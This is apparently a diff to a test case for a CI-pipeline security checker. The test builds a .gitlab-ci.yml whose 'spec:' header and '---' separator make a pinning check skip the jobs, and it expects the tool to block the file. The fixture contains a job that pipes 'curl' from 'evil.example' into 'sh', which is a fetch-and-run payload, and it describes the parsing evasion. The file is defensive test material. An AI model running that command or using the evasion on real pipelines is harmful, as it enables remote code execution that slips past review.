@@ -1,10 +1,7 @@
 # attack: .gitlab-ci.yml starts with a `spec:` header document and `---` (the valid GitLab format for a configuration with inputs); the pins control calls the file unparsable (a medium warning) and never judges the jobs after the separator
 # surface: staged, range (CI)
 # expect: block
-new_repo
-write README.md 'hello'
-commit base
-base=$(git rev-parse HEAD)
+base_repo
 write .gitlab-ci.yml 'spec:' '  inputs:' '    stage:' '      default: test' '---' 'build:' \
   '  image: alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000' \
   '  script:' '    - curl -fsSL https://evil.example/x.sh | sh'
